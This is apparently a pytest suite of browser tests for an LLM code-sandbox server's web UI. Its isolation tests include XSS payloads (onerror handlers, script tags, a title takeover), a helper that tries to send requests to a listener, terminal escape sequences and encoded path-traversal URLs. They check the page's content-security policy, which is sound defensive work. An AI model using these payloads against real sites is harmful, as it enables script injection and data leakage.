"""The web page in a real browser: what people do with it, and what programs inside try with it."""

from __future__ import annotations

import gzip
import http.server
import json
import threading
import time
import urllib.error
import urllib.request
from importlib.resources import files
from typing import TYPE_CHECKING

import pytest

from llm_sandbox.server.keys import KeyFile
from tests.server.browser import Browser, started
from tests.server.servers import Served, served

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

pytestmark = [pytest.mark.slow, pytest.mark.timeout(240)]

ENTER = ("Enter", 13)
ENDED = (
    "document.querySelectorAll('.cell').length === {} && "
    "!document.querySelector('.cell .status.running')"
)
HOSTILE = "<img src=x onerror=\"parent.wasHere=1\"><script>top.wasHere=1;document.title='taken'"
OWN_TEXT = "inside"


class Listener(http.server.ThreadingHTTPServer):
    """Server that counts who comes."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Answer)
        self.asked: list[str] = []
        self.body = b""
        self.url = f"http://127.0.0.1:{self.server_port}"


class _Answer(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        server = self.server
        assert isinstance(server, Listener)
        server.asked.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(server.body if self.path == "/" else b"")

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def listener() -> Iterator[Listener]:
    with Listener() as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        yield server
        server.shutdown()
        thread.join()


def leak(listener: Listener) -> str:
    """A page's attempts to tell somebody else what it knows."""
    url = listener.url
    return (
        f"<img src='{url}/image'><link rel=stylesheet href='{url}/style'>"
        f"<script>if (document.title === 'taken') fetch('{url}/taken');"
        f"fetch('{url}/fetch').catch(() => 0);"
        f"addEventListener('load', () => setTimeout(() => {{ location.href = '{url}/leak' }}, 300))"
        "</script>"
    )


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    with started(tmp_path_factory.mktemp("profile")) as running:
        running.size(1280, 900)
        yield running


@pytest.fixture
def page(browser: Browser, server: Served) -> Browser:
    """The page of a server without sandboxes, and without a complaint of its own."""
    browser.open("about:blank")
    browser.wait("document.URL === 'about:blank'")
    browser.complaints.clear()
    browser.asked.clear()
    browser.open(f"{server.url}/ui/")
    assert browser.text("h1") == "Sandboxes"
    return browser


def create(page: Browser, language: str = "python") -> str:
    """Create a sandbox by the dialog, and return its id."""
    page.click("main button", "New sandbox")
    page.wait("document.querySelector('dialog select option') !== null")
    page.evaluate(f"document.querySelector('dialog select').value = '{language}'")
    page.click("dialog button", "Create")
    page.wait("document.querySelector('.editor textarea') === document.activeElement")
    return str(page.evaluate("location.hash.split('/')[2]"))


def run(page: Browser, code: str, *, count: int) -> str:
    """Run code as the cell of a number, and return what the cell shows."""
    start(page, code)
    page.wait(ENDED.format(count))
    return page.text(f".cell:nth-of-type({count}) .outputs")


def start(page: Browser, code: str) -> None:
    """Type code into the console, and run it by the keyboard."""
    page.evaluate("document.querySelector('.editor textarea').focus()")
    page.type(code)
    page.press(*ENTER, shift=True)


def stop(page: Browser) -> None:
    """Stop the sandbox by its button."""
    page.click(".title button", "Stop")
    page.click("dialog button", "Stop")
    page.wait("document.querySelector('.home') !== null")


def test_an_analysis_from_upload_to_stop(page: Browser, server: Served, tmp_path: Path) -> None:
    sandbox_id = create(page)
    given = tmp_path / "cities.csv"
    given.write_text("city,people\nOslo,709037\nLima,10092000\n")

    page.click(".tabs a", "Files")
    page.wait("document.querySelector('.files input[type=file]') !== null")
    page.choose_files(".files input[type=file]", given)
    assert "10092000" in page.text(".preview table")

    page.click(".tabs a", "Console")
    table = run(page, "import pandas as pd\nd = pd.read_csv('cities.csv')\nd", count=1)
    assert "709037" in table
    assert "2 rows, 2 columns" in table
    drawn = run(
        page,
        "import matplotlib.pyplot as plt\nplt.bar(d.city, d.people)\nplt.show()\n"
        "d.to_csv('out.csv')",
        count=2,
    )
    assert "Bar chart" in drawn
    assert "out.csv" in drawn
    assert page.evaluate("document.querySelector('.cell figure img').naturalWidth") > 300
    assert "ZeroDivisionError" in run(page, "1/0", count=3)

    # `input` asks, and is answered.
    start(page, "print('Hello,', input('Name? '))")
    assert "waits for input" in page.text(".question")
    page.type("Ada")
    page.press(*ENTER)
    page.wait(ENDED.format(4))
    assert "Hello, Ada" in page.text(".cell:nth-of-type(4) .outputs")

    # A loop is interrupted; its output came while it ran.
    start(page, "print('begun', flush=True)\nwhile True: pass")
    page.wait("document.querySelector('.cell:nth-of-type(5) .outputs').innerText.includes('begun')")
    page.click(".prompt button", "Interrupt")
    page.wait(ENDED.format(5))
    assert "KeyboardInterrupt" in page.text(".cell:nth-of-type(5) .outputs")

    # What was there is there again after the page was left.
    page.open(f"{server.url}/ui/")
    page.wait("document.querySelector('.home') !== null")
    page.open(f"{server.url}/ui/#/sandbox/{sandbox_id}/console")
    page.wait(ENDED.format(5))
    assert "Hello, Ada" in page.text(".cell:nth-of-type(4) .outputs")

    page.click(".tabs a", "Runs")
    assert "out.csv" in page.wait(
        "document.querySelector('.runs td[title]:not([title=\"\"])')?.title"
    )
    page.click(".tabs a", "Details")
    assert "enforced" in page.text(".details")
    stop(page)
    assert "No sandbox is living" in page.text(".home")
    assert page.complaints == []
    assert {url.split("/")[2] for url in page.asked if url.startswith("http")} == {
        server.url.removeprefix("http://")
    }


def test_a_terminal(page: Browser) -> None:
    create(page)
    page.click(".tabs a", "Terminal")
    page.wait("document.querySelector('.terminal').innerText.includes('$')")
    # What is typed before `cat` runs would be read in the mode of the shell's own line editor.
    page.type("echo re''ady; cat > typed; printf '\\033[31m%s\\033[0m\\n' red$((6*7)); stty size")
    page.press(*ENTER)
    page.wait("document.querySelector('.terminal').innerText.includes('\\nready')")
    page.type("by hand")
    page.press(*ENTER)
    page.press("d", 68, control=True)
    page.wait("document.querySelector('.terminal .a-f-1')?.innerText === 'red42'")
    rows, columns = page.wait(
        "document.querySelector('.terminal').innerText.match(/^(\\d+) (\\d+)$/m)?.slice(1)"
    )
    assert (int(rows) > 24, int(columns) > 80) == (True, True)
    page.type("exit 3")
    page.press(*ENTER)
    page.wait("document.querySelector('.terminal-view p').innerText.includes('exit code 3')")
    page.click(".tabs a", "Files")
    page.click(".entry", "typed")
    page.wait("document.querySelector('.preview').innerText.includes('by hand')")
    stop(page)
    assert page.complaints == []


def test_what_comes_from_inside_stays_inside(
    page: Browser, server: Served, listener: Listener
) -> None:
    """Scripts in texts, names, pictures, pages and titles; the control follows."""
    sandbox_id = create(page)
    shown = run(
        page,
        f"hostile = {HOSTILE!r} + '</script>'\n"
        "from IPython.display import HTML, SVG, display\n"
        "print(hostile)\n"
        "import pandas as pd\n"
        "open(hostile.replace('/', '-'), 'w').write(hostile)\n"
        "open('page.html', 'w').write(hostile)\n"
        'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">'
        "<script>top.wasHere=1</script></svg>'))\n"
        "display(HTML(hostile + '<p id=p>' + 'see' * 2 + '</p><script>"
        'document.getElementById("p").textContent="' + OWN_TEXT + '";'
        "try{top.wasHere=1}catch(e){};"
        f'fetch("{server.url}/v1/sandboxes").then(()=>top.postMessage("reached","*"));'
        f"</script>' + {leak(listener)!r}))\n"
        "pd.DataFrame({hostile: [hostile]})",
        count=1,
    )
    assert shown.count("onerror") >= 3
    page.evaluate("addEventListener('message', (e) => { if (e.data === 'reached') wasHere = 1 })")
    page.click(".page button", "Show the page")
    frame = page.wait("document.querySelector('.page iframe') !== null")
    assert frame
    # The page's own script has run, in an origin that is not ours.
    inner = wait_for_frame(page)
    assert OWN_TEXT in inner
    # By then it has tried to leave.
    time.sleep(1)
    assert listener.asked == []
    page.click(".tabs a", "Files")
    page.click(".entry", "page.html")
    page.wait("document.querySelector('.preview').innerText.includes('onerror')")
    page.click(".tabs a", "Terminal")
    page.wait("document.querySelector('.terminal').innerText.includes('$')")
    page.type("cat page.html; printf '\\033]0;taken\\007\\033[>c\\033[5n'")
    page.press(*ENTER)
    page.wait("document.querySelector('.terminal').innerText.includes('top.wasHere')")
    time.sleep(0.3)
    assert page.evaluate("typeof wasHere") == "undefined"
    assert "taken" not in page.evaluate("document.title")

    # The content of a file, as a page of its own, is not rendered either.
    address = f"{server.url}/v1/sandboxes/{sandbox_id}/files/page.html"
    with urllib.request.urlopen(address) as answer:
        assert answer.headers["Content-Disposition"] == "attachment"

    page.open(f"{server.url}/ui/#/sandbox/{sandbox_id}/console")
    page.wait("document.querySelector('.cell') !== null")
    stop(page)


def wait_for_frame(page: Browser) -> str:
    """Return the text of the frame, which only the browser itself can look into."""
    limit = time.monotonic() + 30
    text = ""
    while time.monotonic() < limit and OWN_TEXT not in text:
        tree = page.send("DOM.getDocument", depth=-1, pierce=True)
        text = str(tree)
        time.sleep(0.1)
    return text


def test_hostile_text_would_run_in_a_page_without_the_policy(
    browser: Browser, listener: Listener
) -> None:
    """The control of the attacks: the same text runs where it is written into a page."""
    listener.body = f"<title>mine</title>{HOSTILE}</script>{leak(listener)}".encode()
    browser.open(f"{listener.url}/")
    browser.wait("document.URL.endsWith('/leak')")
    assert "/taken" in listener.asked
    assert "/leak" in listener.asked


def test_a_key_is_asked_for_and_admins_make_others(browser: Browser, tmp_path: Path) -> None:
    keys = KeyFile(tmp_path / "keys.json")
    admin = keys.create("root", scopes=("run", "admin"))
    with served("--keys", str(keys.path)) as server:
        browser.open(f"{server.url}/ui/")
        assert "asks for a key" in browser.text("h1")
        browser.evaluate("document.querySelector('.gate input').focus()")
        browser.type("e2b_wrong")
        browser.press(*ENTER)
        browser.wait("document.body.innerText.includes('does not know this key')")
        browser.evaluate("document.querySelector('.gate input').focus()")
        browser.type(admin)
        browser.press(*ENTER)
        browser.wait("document.querySelector('.home') !== null")
        # The terminal's websocket carries the key, too.
        create(browser)
        browser.click(".tabs a", "Terminal")
        browser.wait("document.querySelector('.terminal').innerText.includes('$')")
        browser.click(".bar nav a", "Keys")
        browser.click(".keys-view button", "Make a key")
        browser.evaluate("document.querySelector('dialog input').focus()")
        browser.type("ada")
        browser.click("dialog button", "Make")
        token = browser.wait("document.querySelector('dialog .snippet')?.innerText")
        assert [key.name for key in keys.keys] == ["root", "ada"]
        assert keys.find(token).name == "ada"  # type: ignore[union-attr]
        # Who may only look finds nothing to act with.
        viewer = keys.create("viewer", tenant="root", scopes=("view",))
        browser.evaluate(f"sessionStorage.setItem('llm-sandbox-key', '{viewer}')")
        browser.open(f"{server.url}/ui/?again")
        browser.wait("document.querySelector('.home tbody tr') !== null")
        assert (
            browser.evaluate(
                "[...document.querySelectorAll('button')].filter((b) => b.offsetParent !== null"
                " && /New|Stop/.test(b.title + b.innerText)).length"
            )
            == 0
        )
        # Neither key is in the log, nor in an address.
        assert admin not in "".join(server.lines)
        assert not any(admin in url for url in browser.asked)


def test_an_evaluation_is_followed(page: Browser, server: Served) -> None:
    codes = ("print(2 * int(input()))", "print(1)", "1/0")
    body = {
        "tests": [{"kind": "stdio", "stdin": "21", "expected": "42"}],
        "samples": [{"id": f"s{n}", "code": code} for n, code in enumerate(codes)],
        "wait": False,
    }
    asked = urllib.request.Request(f"{server.url}/v1/evaluate", json.dumps(body).encode())
    asked.add_header("Content-Type", "application/json")
    with urllib.request.urlopen(asked) as answer:
        assert answer.status == 202
    page.click(".bar nav a", "Evaluations")
    page.click("a.card")
    page.wait("document.querySelector('.card').innerText.includes('done')")
    rows = page.evaluate("[...document.querySelectorAll('tbody tr')].map((r) => r.innerText)")
    found = sorted(row.split("\t") for row in rows)
    assert [(row[0], row[1], row[2]) for row in found] == [
        ("s0", "AC", "1"),
        ("s1", "WA", "0"),
        ("s2", "RTE", "0"),
    ]
    assert found[1][5] == "test 1, token 1: expected 42, got 1"
    assert page.complaints == []


def test_files_of_the_page_have_its_policy(server: Served) -> None:
    names = ("", "app.js", "style.css", "icon.svg", "frame.html")
    for name in names:
        with urllib.request.urlopen(f"{server.url}/ui/{name}") as answer:
            policy = answer.headers["Content-Security-Policy"]
            assert policy.startswith(
                "sandbox allow-scripts; default-src 'none'"
                if name == "frame.html"
                else "default-src 'none'; script-src 'self'"
            )
            assert answer.headers["X-Content-Type-Options"] == "nosniff"
    for missing in ("none.js", "%2e%2e%2fpages.py", "..%2fpages.py"):
        with pytest.raises(urllib.error.HTTPError) as caught:
            urllib.request.urlopen(f"{server.url}/ui/{missing}")
        caught.value.close()
        assert caught.value.code == 404


def test_the_page_is_small() -> None:
    """All of it, compressed."""
    static = files("llm_sandbox.server.page").joinpath("static")
    sizes = [len(gzip.compress(item.read_bytes())) for item in static.iterdir()]
    assert sum(sizes) < 100_000
